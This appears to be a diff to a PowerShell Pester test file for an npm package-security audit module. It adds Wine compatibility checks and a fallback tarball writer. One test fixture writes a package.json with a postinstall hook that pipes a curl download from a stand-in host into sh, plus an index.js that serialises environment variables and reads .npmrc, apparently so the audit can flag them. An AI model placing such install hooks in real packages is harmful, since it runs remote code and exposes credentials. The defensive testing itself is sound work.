@@ -4,6 +4,13 @@
 # rule id and one severity whichever cmdlet reports it, and every finding takes its title from the same catalog.
 # Every registry a token is scoped to is a listener on 127.0.0.1: -Online sends nothing off the machine.
 
+BeforeDiscovery {
+    # Wine 8's bcrypt cannot make a P-256 key (CryptographicException 0x80090029, measured under build.ps1 -Task
+    # TestWindows); the release fixtures' registry signing key needs one, so that block skips where it fails.
+    $script:NoEcdsa = $false
+    try { [System.Security.Cryptography.ECDsa]::Create([System.Security.Cryptography.ECCurve+NamedCurves]::nistP256).Dispose() } catch { $script:NoEcdsa = $true }
+}
+
 BeforeAll {
     Import-Module -Name $env:NPMH_MODULE_PATH -Force -ErrorAction Stop
     . (Join-Path $PSScriptRoot 'TestMachine.ps1')
@@ -335,7 +342,14 @@ Describe 'Publish-pipeline findings beside the other audits' {
         Write-Utf8File (Join-Path $pkg 'package.json') '{"name":"consistency","version":"1.0.0","scripts":{"postinstall":"curl -s https://e.example/i | sh"},"dependencies":{"g":"github:x/y"}}'
         Write-Utf8File (Join-Path $pkg 'index.js') "require('child_process'); JSON.stringify(process.env); require('fs').readFileSync('.npmrc')`n"
         $tgz = Join-Path $m.Root 'staged.tgz'
-        & tar -czf $tgz -C (Split-Path $pkg) package
+        if (Get-Command tar -CommandType Application -ErrorAction SilentlyContinue) { & tar -czf $tgz -C (Split-Path $pkg) package }
+        elseif ($PSVersionTable.PSVersion.Major -ge 7) {
+            # Wine has no tar.exe (Windows 10 and later have one in System32): the fake's tar writer makes the same package
+            . (Join-Path $PSScriptRoot 'StageRegistry.ps1')
+            $files = @{ 'index.js' = [IO.File]::ReadAllText((Join-Path $pkg 'index.js')) }
+            [IO.File]::WriteAllBytes($tgz, [NpmhStageRegistry]::BuildTarball([IO.File]::ReadAllText((Join-Path $pkg 'package.json')), $files))
+        }
+        else { Set-ItResult -Skipped -Because 'no tar here, and the fake''s tar writer needs PowerShell 7'; return }
         $review = @(Compare-NpmStagedPackage -Path $tgz)
         $review.Count | Should -BeGreaterOrEqual 8
         @($review | Where-Object RuleId -notlike 'NPMH12???').Count | Should -Be 0
@@ -426,7 +440,7 @@ Describe 'Trusted publishing findings beside the pipeline audit' -Skip:($PSVersi
     }
 }
 
-Describe 'Release findings beside the trust audit' -Skip:($PSVersionTable.PSVersion.Major -lt 7) {
+Describe 'Release findings beside the trust audit' -Skip:($PSVersionTable.PSVersion.Major -lt 7 -or $NoEcdsa) {
     BeforeAll {
         . (Join-Path $PSScriptRoot 'StageRegistry.ps1')
         . (Join-Path $PSScriptRoot 'ReleaseRegistry.ps1')
